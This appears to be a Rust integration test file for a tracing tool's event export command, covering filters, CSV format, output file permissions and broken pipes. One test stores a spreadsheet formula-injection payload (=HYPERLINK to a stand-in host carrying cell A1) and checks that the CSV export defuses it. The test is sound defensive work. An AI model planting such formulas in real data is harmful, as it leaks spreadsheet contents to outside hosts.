//! Events written out: all of them, or those asked for, as lines or as a table.
#![allow(clippy::unwrap_used, missing_docs)]

mod support;

use std::io::Read as _;
use std::os::unix::fs::PermissionsExt as _;
use std::process::{Command, Stdio};

use serde_json::{Value, json};
use support::{Home, Output, Request, eventually, get, post};

async fn with_events(home: &Home, events: &[Value]) {
    let sidecar = home.setup().keep_forever().start().await;
    for part in events.chunks(200) {
        // The credits of the part before may still be on their way back.
        let request = Request::events(serde_json::to_string(part).unwrap());
        eventually("taken", async || post(sidecar.ingest, &request).await.status == 200).await;
    }
    sidecar.stop().await;
}

fn export(home: &Home, args: &[&str]) -> Output {
    args.iter().fold(home.bare().arg("export"), |setup, arg| setup.arg(*arg)).arg("--db").arg(home.db()).output()
}

fn names(output: &Output) -> Vec<String> {
    assert_eq!(output.code, Some(0), "{}", output.stderr);
    let name = |line: &str| serde_json::from_str::<Value>(line).unwrap()["name"].as_str().unwrap().to_owned();
    output.stdout.lines().map(name).collect()
}

#[tokio::test]
async fn an_export_is_narrowed_by_kind_session_run_status_and_time() {
    let home = Home::new();
    let event = |name: &str, kind: &str, at: &str| json!({"kind": kind, "name": name, "timestamp": at, "run_id": name});
    let mut failed = event("c", "tool_call", "2026-11-24T12:00:02Z");
    failed["status"] = "error".into();
    failed["session_id"] = "s".into();
    let mut fine = event("d", "tool_call", "2026-11-24T12:00:03Z");
    fine["status"] = "ok".into();
    let (a, b) = (event("a", "log", "2026-11-24T12:00:00Z"), event("b", "metric", "2026-11-24T12:00:01Z"));
    with_events(&home, &[a, b, failed, fine]).await;
    for (args, expected) in [
        (&[][..], &["a", "b", "c", "d"][..]),
        (&["--kind", "log,metric"], &["a", "b"]),
        (&["--kind", "log", "--kind", "tool_call"], &["a", "c", "d"]),
        (&["--session", "s"], &["c"]),
        (&["--run", "d"], &["d"]),
        (&["--failed"], &["c"]),
        (&["--status", "error"], &["c"]),
        (&["--status", "ok"], &["d"]),
        (&["--from", "2026-11-24T12:00:01Z", "--to", "2026-11-24T12:00:02Z"], &["b"]),
        (&["--from", "2026-11-24T12:00:03Z"], &["d"]),
        (&["--to", "1000"], &[]),
        (&["--from", "100000d"], &["a", "b", "c", "d"]),
    ] {
        assert_eq!(names(&export(&home, args)), expected, "{args:?}");
    }
    for (args, said) in [
        (&["--from", "yesterday"][..], "15m, 6h, 7d"),
        (&["--kind", "No Kind"], "kind must be"),
        (&["--failed", "--status", "ok"], "cannot be used with"),
        (&["--format", "xml"], "ndjson, csv"),
    ] {
        let refused = export(&home, args);
        assert_eq!(refused.code, Some(2), "{args:?}");
        assert!(refused.stderr.contains(said), "{args:?}: {}", refused.stderr);
    }
}

#[tokio::test]
async fn a_table_is_for_spreadsheets_and_holds_no_formula() {
    let home = Home::new();
    let formula = r#"=HYPERLINK("http://x/?"&A1,"go")"#;
    let call = json!({"kind": "llm_call", "name": "m", "error": formula, "duration_ms": 12.5,
        "output": "two\nlines, and \"quotes\"",
        "attributes": {"gen_ai.usage.input_tokens": 7, "gen_ai.usage.output_tokens": 3, "cost_usd": 0.5}});
    with_events(&home, &[call, json!({"kind": "log", "name": "-1+1"})]).await;
    let table = export(&home, &["--format", "csv"]).stdout;
    let mut lines = table.split("\r\n");
    let head: Vec<_> = lines.next().unwrap().split(',').collect();
    assert_eq!(head[..4], ["trace_id", "kind", "timestamp", "duration_ms"]);
    assert_eq!(head[12..16], ["input_tokens", "cached_tokens", "output_tokens", "cost_usd"]);
    let call = lines.next().unwrap();
    assert!(call.contains(r#","'=HYPERLINK(""http://x/?""&A1,""go"")","#), "{call}");
    assert!(call.contains(",7,,3,0.5,"), "{call}");
    assert!(lines.next().unwrap().contains(",'-1+1,"), "{table}");
    assert_eq!(lines.collect::<Vec<_>>(), [""], "{table}");
}

#[tokio::test]
async fn a_file_is_private_never_the_database_and_not_emptied_for_nothing() {
    let home = Home::new();
    with_events(&home, &[json!({"kind": "log", "name": "a"})]).await;
    let to = home.path("out.ndjson");
    let written = export(&home, &["--output", to.to_str().unwrap()]);
    assert_eq!((written.code, written.stdout.as_str()), (Some(0), "1 event written\n"));
    assert!(written.stderr.is_empty(), "no bar where there is no terminal: {}", written.stderr);
    assert_eq!(std::fs::read_to_string(&to).unwrap(), export(&home, &[]).stdout);
    assert_eq!(std::fs::metadata(&to).unwrap().permissions().mode() & 0o777, 0o600);

    let refused = export(&home, &["--output", home.db().to_str().unwrap()]);
    assert_eq!(refused.code, Some(1));
    assert!(refused.stderr.contains("it is the database itself"), "{}", refused.stderr);
    assert_eq!(names(&export(&home, &[])), ["a"], "the database is as it was");

    let missing = home.bare().arg("export").arg("--db").arg("none.db").arg("--output").arg(&to).output();
    assert_eq!(missing.code, Some(1));
    assert_ne!(std::fs::metadata(&to).unwrap().len(), 0, "what was there is there");
}

#[tokio::test]
async fn a_reader_that_has_seen_enough_is_no_failure() {
    let home = Home::new();
    // More than a pipe holds.
    let events: Vec<_> =
        (0..2000).map(|at| json!({"kind": "log", "name": format!("n{at}{}", "x".repeat(200))})).collect();
    with_events(&home, &events).await;
    for format in ["ndjson", "csv"] {
        let mut child = Command::new(env!("CARGO_BIN_EXE_openclaw-trace"))
            .args(["export", "--format", format, "--db"])
            .arg(home.db())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let mut out = child.stdout.take().unwrap();
        out.read_exact(&mut [0; 100]).unwrap();
        drop(out);
        let ended = child.wait_with_output().unwrap();
        assert!(ended.status.success() && ended.stderr.is_empty(), "{ended:?}");
    }
}

#[tokio::test]
async fn the_api_and_the_command_write_the_same_table() {
    let home = Home::new();
    let sidecar = home.setup().keep_forever().start().await;
    // More than the API reads at once.
    let events: Vec<_> = (0..450)
        .map(|at| json!({"kind": "log", "name": format!("n{at}"), "timestamp": 1_764_000_000_000_i64 + at}))
        .collect();
    let answer = post(sidecar.ingest, &Request::events(serde_json::to_string(&events).unwrap())).await;
    assert_eq!(answer.status, 200, "{}", answer.text());
    let table = export(&home, &["--format", "csv"]).stdout;
    let answer = get(sidecar.api, "/api/v1/export?format=csv&kind=*").await;
    assert_eq!(answer.status, 200, "{}", answer.text());
    assert_eq!(answer.header("content-type"), Some("text/csv; charset=utf-8; header=present"));
    assert_eq!(answer.text(), table);
    assert_eq!(table.matches("\r\n").count(), 451);
    sidecar.stop().await;
}
